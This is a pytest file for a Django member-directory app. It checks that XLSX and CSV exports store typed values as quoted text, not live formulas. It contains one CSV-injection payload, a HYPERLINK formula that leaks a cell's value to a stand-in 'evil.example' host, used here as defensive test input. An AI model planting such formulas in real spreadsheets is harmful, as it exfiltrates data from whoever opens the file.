"""The staff's directory export: what members typed reaches the spreadsheet as text, never as a formula."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from grappe.conftest import make_organisation

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("https://evil.example/?leak="&B3,"Click me")'


@pytest.fixture
def exported(client, staff):
    make_organisation("Alpha Usinage", trade_name=LEAK, city="@Laval", phone="+1 514 555 0100",
                      member_since=datetime.date(2015, 5, 4))
    client.force_login(staff)
    return lambda query="": client.get(reverse("members:directory-export") + query)


def test_a_trade_name_typed_as_a_formula_is_text_in_the_xlsx_export(exported):
    sheet = load_workbook(io.BytesIO(exported().content)).active
    headers = [cell.value for cell in sheet[1]]
    row = {header: cell for header, cell in zip(headers, sheet[2], strict=True)}

    for column, typed in (("Nom commercial", LEAK), ("Ville", "@Laval"), ("Téléphone", "+1 514 555 0100")):
        assert (row[column].data_type, row[column].value, row[column].quotePrefix) == ("s", typed, True), column
    assert row["Membre depuis"].value == datetime.datetime(2015, 5, 4)  # a date stays a date


def test_a_trade_name_typed_as_a_formula_is_quoted_in_the_csv_export(exported):
    response = exported("?format=csv")
    headers, row = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    row = dict(zip(headers, row, strict=True))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (row["Nom commercial"], row["Ville"], row["Téléphone"]) == ("'" + LEAK, "'@Laval", "'+1 514 555 0100")
    assert (row["Raison sociale"], row["Membre depuis"]) == ("Alpha Usinage", "2015-05-04")


def test_the_csv_export_imports_back_as_it_was_typed(exported, staff):
    from grappe.members.services.imports import files

    sheet = files.read_sheet(exported("?format=csv").content, "export.csv")

    row = dict(zip(sheet.headers, sheet.rows[0].cells, strict=True))
    assert (row["Nom commercial"], row["Ville"], row["Téléphone"]) == (LEAK, "@Laval", "+1 514 555 0100")
